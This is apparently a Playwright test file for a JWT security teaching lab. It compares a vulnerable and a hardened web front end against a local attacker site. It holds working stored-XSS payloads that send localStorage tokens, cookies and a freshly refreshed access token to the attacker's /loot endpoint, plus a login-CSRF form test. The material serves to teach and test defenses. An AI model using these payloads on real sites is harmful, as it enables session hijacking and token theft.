"""The two front ends and the attacker's pages in a real browser, on the faces that serve them."""

import itertools
import json
from collections.abc import Callable, Iterator
from urllib.parse import urlencode

import pytest
import requests
from playwright.sync_api import Browser, Page

from jwtlab.site import Site, start_site
from tests.helpers.browser import chromium

EVERYWHERE = [("seed", "local"), ("seed", "cookie"), ("hardened", "cookie")]

http = requests.Session()
http.trust_env = False  # a proxy of this machine has no say on loopback
number = itertools.count(1)  # tests share the sites: what one of them writes has a number of its own


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def sites(browser) -> Iterator[dict[str, Site]]:
    """A site of each face, by name. Asks for the browser first: without one there is nothing to start."""
    running = {face: start_site(face) for face in ("seed", "hardened", "attacker")}
    yield running
    for site in running.values():
        site.stop()


class Visitor:
    """A person with a browser of their own, in one tab. `errors` is what the page's scripts ran into."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.errors: list[str] = []
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", lambda line: self.errors.append(line.text) if "Policy" in line.text else None)

    def open(self, url: str) -> None:
        """Open a front end, and wait until it knows whether one is logged in."""
        self.page.goto(url)
        self.page.locator("#app:not([data-session=unknown])").wait_for()
        self.page.locator("#entries li").first.wait_for()

    def log_in(self, username: str = "vitor", password: str = "123") -> None:
        self.fill(username=username, password=password)
        self.press("Log in")
        self.page.locator("#app[data-session=in]").wait_for()

    def fill(self, **fields: str) -> None:
        for name, value in fields.items():
            self.page.locator(f"#{name}").fill(value)

    def press(self, button: str) -> None:
        self.page.get_by_role("button", name=button).click()

    def add_note(self) -> str:
        """Add a note, wait until it is shown, and return its title."""
        title = f"Note {next(number)}"
        self.fill(title=title)
        self.press("Add note")
        self.wait_for_note(title)
        return title

    def wait_for_note(self, title: str) -> None:
        self.page.locator("#notes h3").get_by_text(title, exact=True).wait_for()

    @property
    def session(self) -> str:
        return self.page.locator("#app").get_attribute("data-session")

    @property
    def notes(self) -> list[str]:
        return self.page.locator("#notes h3").all_inner_texts()


@pytest.fixture
def visitor(browser, sites) -> Iterator[Callable[[], Visitor]]:
    """Make visitors: `visitor()`; each has its own cookies and storage."""
    contexts = []

    def make(**settings: object) -> Visitor:
        contexts.append(browser.new_context(**settings))
        return Visitor(contexts[-1].new_page())

    yield make
    for context in contexts:
        context.close()


@pytest.mark.parametrize(("face", "kind"), EVERYWHERE)
def test_a_person_logs_in_reads_writes_signs_and_logs_out(sites, visitor, face, kind):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/{kind}/")
    assert vitor.session == "out"
    vitor.fill(username="vitor", password="wrong")
    vitor.press("Log in")
    assert vitor.page.get_by_role("alert").inner_text().startswith("401 · ")
    vitor.log_in()
    assert not vitor.page.get_by_role("alert").is_visible()
    assert vitor.notes[:2] == ["Shopping", "Talk"]
    title = vitor.add_note()
    vitor.fill(name="vitor", message=f"Hello from {kind}.")
    vitor.press("Sign")
    vitor.page.locator("#entries", has_text=f"Hello from {kind}.").wait_for()
    vitor.open(vitor.page.url)  # loaded again, the page is still logged in
    assert (vitor.session, vitor.notes[-1]) == ("in", title)
    vitor.press("Log out")
    vitor.page.locator("#app[data-session=out]").wait_for()
    vitor.open(vitor.page.url)
    assert vitor.session == "out"
    assert vitor.errors == []


@pytest.mark.parametrize(("face", "kind"), EVERYWHERE)
def test_an_access_token_that_expires_is_renewed_unnoticed(sites, visitor, face, kind):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/{kind}/")
    vitor.log_in()
    before = vitor.page.locator("#claims").inner_text()
    sites[face].clock.advance(minutes=6)
    vitor.add_note()
    assert vitor.page.locator("#claims").inner_text() != before
    assert not vitor.page.get_by_role("alert").is_visible()


def test_a_session_that_has_ended_leads_to_the_login_form(sites, visitor):
    vitor = visitor()
    vitor.open(f"{sites['hardened'].url}/app/cookie/")
    vitor.log_in()
    vitor.page.context.clear_cookies()
    sites["hardened"].clock.advance(minutes=6)
    vitor.fill(title="too late")
    vitor.press("Add note")
    vitor.page.locator("#log-in").wait_for()
    assert vitor.page.get_by_role("alert").inner_text() == "You are no longer logged in."
    assert vitor.page.evaluate("document.activeElement.id") == "username"


# Stored scripts. An <img> without an address fails at once, and no request is sent for it.

STEAL_STORAGE = "new Image().src='{loot}?{tag}&'+localStorage.access+'&'+localStorage.refresh"
USE_COOKIE = (
    "fetch('/api/token/refresh/',{{method:'POST'}}).then(r=>r.json())"
    ".then(b=>new Image().src='{loot}?{tag}&c='+document.cookie+'&'+b.access)"
)


def sign(site: Site, attacker: Site, script: str) -> str:
    """Leave a script in a guest book, and return the tag of what it will send."""
    tag = f"script{next(number)}"
    message = f'<img src onerror="{script.format(loot=attacker.url + "/loot", tag=tag)}">'
    signed = http.post(f"{site.url}/api/guestbook/", json={"name": "mallory", "message": message})
    assert signed.status_code == 201
    return tag


def loot(attacker: Site, tag: str) -> list[list[str]]:
    """Return what came in with this tag: of each request, what follows."""
    queries = [entry["query"].split("&") for entry in http.get(f"{attacker.url}/loot.json").json()]
    return [parts[1:] for parts in queries if parts[0] == tag]


@pytest.mark.parametrize(("kind", "script"), [("local", STEAL_STORAGE), ("cookie", USE_COOKIE)])
def test_on_the_seed_face_a_stored_script_gets_a_token_out(sites, visitor, kind, script):
    vitor = visitor()
    vitor.open(f"{sites['seed'].url}/app/{kind}/")
    vitor.log_in()
    tag = sign(sites["seed"], sites["attacker"], script)
    with vitor.page.expect_request_finished(lambda request: tag in request.url):
        vitor.page.reload()
    stolen = loot(sites["attacker"], tag)[0]
    assert [part[:3] for part in stolen] == {"local": ["eyJ", "eyJ"], "cookie": ["c=", "eyJ"]}[kind]
    bearer = {"Authorization": f"Bearer {stolen[kind == 'cookie']}"}
    assert http.get(f"{sites['seed'].url}/hello/", headers=bearer).status_code == 200


@pytest.mark.parametrize(("face", "query"), [("hardened", ""), ("seed", "?csp")])
def test_where_the_text_is_escaped_or_the_policy_is_sent_the_script_does_not_run(sites, visitor, face, query):
    vitor = visitor()
    vitor.open(f"{sites[face].url}/app/cookie/")
    vitor.log_in()
    tag = sign(sites[face], sites["attacker"], USE_COOKIE)
    vitor.open(f"{sites[face].url}/app/cookie/{query}")
    vitor.add_note()  # the page is at work, and time has passed
    assert loot(sites["attacker"], tag) == []
    refused = [error for error in vitor.errors if "inline event handler" in error]
    assert bool(refused) is (face == "seed")  # there the policy stopped it; elsewhere there was no script


# Two tabs, one cookie


def test_two_tabs_refresh_log_out_and_log_in_together(sites, visitor):
    url = f"{sites['hardened'].url}/app/cookie/"
    one = visitor()
    one.open(url)
    one.log_in()
    two = Visitor(one.page.context.new_page())
    two.open(url)
    assert two.session == "in"
    sites["hardened"].clock.advance(minutes=6)
    titles = {one: f"Note {next(number)}", two: f"Note {next(number)}"}
    for tab, title in titles.items():  # neither waits for the other
        tab.fill(title=title)
        tab.page.evaluate("document.querySelector('#add-note').requestSubmit()")
    for tab, title in titles.items():
        tab.wait_for_note(title)
        assert tab.session == "in"
    one.press("Log out")
    two.page.locator("#app[data-session=out]").wait_for()
    one.log_in("alice", "correct-horse-battery")
    two.wait_for_note("Diary")


def test_a_refresh_that_comes_a_moment_too_early_is_sent_again(sites, visitor):
    vitor = visitor()
    vitor.open(f"{sites['hardened'].url}/app/cookie/")
    vitor.log_in()
    early = iter([True, True])

    def answer(route) -> None:
        route.fulfill(status=409, json={"detail": "too early"}) if next(early, False) else route.continue_()

    vitor.page.route("**/api/token/refresh/", answer)
    vitor.open(vitor.page.url)
    assert vitor.session == "in"


# The look, and pages beside the front ends


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_is_wider_than_a_small_screen(sites, visitor, scheme):
    vitor = visitor(viewport={"width": 360, "height": 640}, color_scheme=scheme)
    for path in ("/app/local/", "/app/cookie/"):
        vitor.open(sites["seed"].url + path)
        vitor.log_in()
        assert vitor.page.evaluate("document.documentElement.scrollWidth") == 360


def test_the_documentation_page_works_under_its_policy(sites, visitor):
    reader = visitor()
    reader.page.goto(f"{sites['hardened'].url}/api/docs/")
    reader.page.locator("#operations-notes-notes_list").wait_for()
    assert reader.errors == []


def test_the_attackers_form_sends_itself_and_logs_a_visitor_in(sites, visitor):
    victim = visitor()
    login = {"action": f"{sites['seed'].url}/login/", "username": "mallory", "password": "mallory-attacks"}
    evil = f"http://localhost:{sites['attacker'].port}"  # another site than 127.0.0.1
    with victim.page.expect_navigation(url="**/login/"):
        victim.page.goto(f"{evil}/form/?{urlencode(login)}")
    victim.open(f"{sites['seed'].url}/app/cookie/")
    assert victim.notes == ["To do"]


def test_the_attackers_script_reports_what_it_could_read(sites, visitor):
    page = visitor().page
    reports = []
    for target in (f"{sites['seed'].url}/api/guestbook/", f"{sites['attacker'].url}/loot?open"):
        page.goto(f"{sites['attacker'].url}/fetch/?{urlencode({'url': target})}")
        reports.append(page.locator("#report[data-done]").inner_text())
    closed, opened = map(json.loads, reports)
    assert closed == {"url": f"{sites['seed'].url}/api/guestbook/", "read": False}
    assert (opened["read"], opened["status"]) == (True, 204)
    bodies = [entry["body"] for entry in http.get(f"{sites['attacker'].url}/loot.json").json()]
    assert [body for body in bodies if body] == reports  # it is loot as well
